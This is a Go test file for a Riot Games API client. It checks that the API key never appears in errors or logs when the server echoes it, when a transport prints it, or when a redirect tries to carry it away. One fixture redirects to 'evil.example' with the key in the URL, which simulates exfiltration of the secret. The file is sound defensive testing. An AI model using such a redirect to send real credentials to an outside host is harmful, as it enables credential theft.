package riot

import (
	"bytes"
	"errors"
	"fmt"
	"log/slog"
	"net/http"
	"strings"
	"testing"
)

// keyEchoTransport fails every request with an error holding the request's
// X-Riot-Token, as a careless proxy or a future net/http might.
type keyEchoTransport struct{}

func (keyEchoTransport) RoundTrip(r *http.Request) (*http.Response, error) {
	return nil, fmt.Errorf("proxy refused request with X-Riot-Token: %s", r.Header.Get("X-Riot-Token"))
}

// The key never appears in an error or a log line of the client, whatever
// Riot (or something pretending to be Riot) answers: error bodies echoing
// the key for each status class, a redirect whose Location holds it, and a
// transport error that prints it.
func TestKeyNeverInErrorsOrLogs(t *testing.T) {
	var logs bytes.Buffer
	echo := func(status int) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Retry-After", "1")
			w.WriteHeader(status)
			fmt.Fprintf(w, `{"status":{"message":"Forbidden: key %s is not valid","status_code":%d}}`, r.Header.Get("X-Riot-Token"), status)
		}
	}
	for _, status := range []int{http.StatusBadRequest, http.StatusUnauthorized, http.StatusForbidden, http.StatusNotFound,
		http.StatusTooManyRequests, http.StatusInternalServerError, http.StatusServiceUnavailable} {
		f := newFakeRiot(t, echo(status))
		c, _, _ := newTestClient(t, f, func(c *Config) {
			c.Logger = slog.New(slog.NewTextHandler(&logs, &slog.HandlerOptions{Level: slog.LevelDebug}))
		})
		_, err := c.AccountByRiotID(t.Context(), Americas, RiotID{GameName: "a", TagLine: "b"})
		if err == nil {
			t.Fatalf("status %d: no error", status)
		}
		for _, s := range []string{err.Error(), fmt.Sprintf("%+v", err), fmt.Sprintf("%#v", err)} {
			if strings.Contains(s, testKey) {
				t.Errorf("status %d: the key is in the error: %s", status, s)
			}
		}
	}
	// A redirect to another host that carries the key in its URL.
	f := newFakeRiot(t, func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "http://evil.example/?k="+r.Header.Get("X-Riot-Token"), http.StatusFound)
	})
	c, _, _ := newTestClient(t, f, nil)
	_, err := c.AccountByRiotID(t.Context(), Americas, RiotID{GameName: "a", TagLine: "b"})
	if !errors.Is(err, ErrCrossHostRedirect) {
		t.Fatalf("cross-host redirect: %v", err)
	}
	if strings.Contains(err.Error(), testKey) {
		t.Errorf("the key is in the redirect error: %v", err)
	}
	// A transport error that prints the key.
	c, _, _ = newTestClient(t, f, func(c *Config) { c.HTTPClient = &http.Client{Transport: keyEchoTransport{}} })
	_, err = c.AccountByRiotID(t.Context(), Americas, RiotID{GameName: "a", TagLine: "b"})
	if err == nil || !strings.Contains(err.Error(), "proxy refused") {
		t.Fatalf("transport error: %v, want the transport's error", err)
	}
	if strings.Contains(err.Error(), testKey) || strings.Contains(fmt.Sprintf("%+v", err), testKey) {
		t.Errorf("the key is in the transport error: %v", err)
	}
	if strings.Contains(logs.String(), testKey) {
		t.Errorf("the key is in the client's logs: %s", logs.String())
	}
}
